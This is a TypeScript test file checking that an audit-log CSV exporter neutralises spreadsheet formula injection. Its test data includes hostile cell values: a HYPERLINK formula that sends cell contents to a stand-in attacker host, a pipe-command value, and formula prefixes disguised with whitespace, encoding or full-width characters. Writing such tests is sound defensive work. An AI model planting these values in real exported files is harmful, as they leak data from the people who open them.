// tier: quick
/** The audit as a file for spreadsheets: what agents and people wrote into it must not be calculated. */
import { expect, test } from 'bun:test'
import { csvCell, csvHead, csvLine } from '../../src/client/audit_csv.ts'

test.each([
  '=HYPERLINK("https://evil.example?"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '|cmd',
  '%0a=1',
  '＝1',
])('%j is text in a spreadsheet', (text) => {
  expect(csvCell(text)).toStartWith(`"'`)
})

test.each([
  ['https://x.example/;=1+1;', "https://x.example/;'=1+1;"],
  ['A; =1', "A;' =1"],
  ['b\t@SUM(A1)', "b\t'@SUM(A1)"],
])('%j is text where cells end at semicolons or tabs', (text, expected) => {
  expect(csvCell(text)).toBe(expected)
})

test('a text that is not a formula stays unchanged, and numbers stay numbers', () => {
  expect(['deploy-bot', 'a=b', 404, -1, true, null, undefined].map(csvCell)).toEqual([
    ...['deploy-bot', 'a=b', '404', '-1', 'true', '', ''],
  ])
})

test('quotes, commas and line endings stay in their cell', () => {
  expect(csvCell('a "b", c\nd')).toBe('"a ""b"", c\nd"')
})

test('a record has a cell for each column', () => {
  const nothing = {
    ...{ registration_id: null, token_id: null, user_id: null, project_id: null },
    ...{ environment: null, method: null, target_url: null, target_path: null },
    ...{ target_domain: null, credential_ref: null, injection_style: null, decision: null },
    ...{ reason: null, refused_by: null, status_code: null, duration_ms: null, redacted: null },
    ...{ action: null, resource: null, client_id: null, unfilled: null, approval_id: null },
  }
  const line = csvLine({
    ...nothing,
    ...{ id: 'i', workspace_id: 'w', source: 'resolver', identity_level: 'agent' },
    ...{ timestamp: '2026-01-01T00:00:00.000Z', recorded_at: '2026-01-01T00:00:00.000Z' },
    ...{ agent_id: '=cmd', resource: { type: 'secret', id: null, name: 'A' } },
  })
  expect(line.trim().split(',')).toHaveLength(csvHead().split(',').length)
  expect(line).toContain(`,"'=cmd",`)
  expect(line).toEndWith('\r\n')
})
